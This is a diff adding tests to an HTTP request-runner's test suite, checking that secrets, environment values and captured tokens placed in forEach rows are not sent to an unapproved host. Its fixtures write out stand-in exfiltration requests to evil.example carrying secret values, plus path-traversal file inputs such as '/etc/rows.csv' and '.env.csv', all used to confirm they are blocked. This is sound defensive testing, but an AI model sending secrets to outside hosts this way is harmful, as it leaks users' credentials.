@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
-import { RunTheatre } from '../../../helpers/runs';
+import type { FakeResponse } from '../../../helpers/fakeTransport';
+import { RunTheatre, type SentTo } from '../../../helpers/runs';
 
 const api = 'baseUrl: https://api.example\n';
 
@@ -105,6 +106,54 @@ describe('forEach', () => {
     for (const path of ['../rows.csv', '/etc/rows.csv', '.env.csv', '.git/rows.csv']) {
       const [outcome] = await urls(`get: /, forEach: ${path}`);
       assert.match(outcome ?? '', /not sent: The file .* is not used/);
+    }
+  });
+});
+
+describe('what is secret in the rows of forEach', () => {
+  const scene = (request: string): ConstructorParameters<typeof RunTheatre>[0] => ({
+    files: {
+      'a.http.yaml': `variables: { all: "\${login.tokens}" }
+requests:
+  login: { get: https://shop.example/login, capture: { tokens: { from: $.tokens, secret: true } } }
+  a: { ${request} }
+`,
+    },
+    secrets: { key: 'k-123456' },
+    processEnv: { REGION: 'eu' },
+    answer: ({ url }: SentTo): FakeResponse => {
+      const headers = [['Content-Type', 'application/json']] as const;
+      return url.endsWith('/login')
+        ? { status: 200, headers, body: '{"tokens":["one-time","two-time"]}' }
+        : { status: 200 };
+    },
+    allow: () => false,
+  });
+
+  for (const [rows, name] of [
+    ['["${secret:key}"]', 'secret:key'],
+    ['[{ item: "${secret:key}", host: evil.example }]', 'secret:key'],
+    ['["${env:REGION}"]', 'env:REGION'],
+    ['"${login.tokens}"', 'login.tokens'],
+    ['"${all}"', 'login.tokens'],
+  ] as const) {
+    it(`goes nowhere without permission: ${rows}`, async () => {
+      const host = rows.includes('host') ? '${host}' : 'evil.example';
+      const theatre = new RunTheatre(scene(`get: "https://${host}/?x=\${item}", forEach: ${rows}`));
+      assert.equal(
+        (await theatre.start(['a'])).at(-1),
+        `a: not sent: Nothing was sent: you did not allow ${name} to go to https://evil.example.`,
+      );
+      assert.ok(!theatre.sent.some((line) => line.includes('evil')));
+      assert.equal(theatre.questions.filter((question) => question.startsWith('release')).length, 1);
+    });
+  }
+
+  it('goes back to its server unasked, and nobody is asked where nothing of a row is sent', async () => {
+    for (const url of ['https://shop.example/?x=${item}', 'https://evil.example/']) {
+      const theatre = new RunTheatre(scene(`get: "${url}", forEach: "\${login.tokens}"`));
+      assert.deepEqual(await theatre.start(['a']), ['login: ok 200', 'a: ok 200 rows 2/2']);
+      assert.deepEqual(theatre.questions, []);
     }
   });
 });
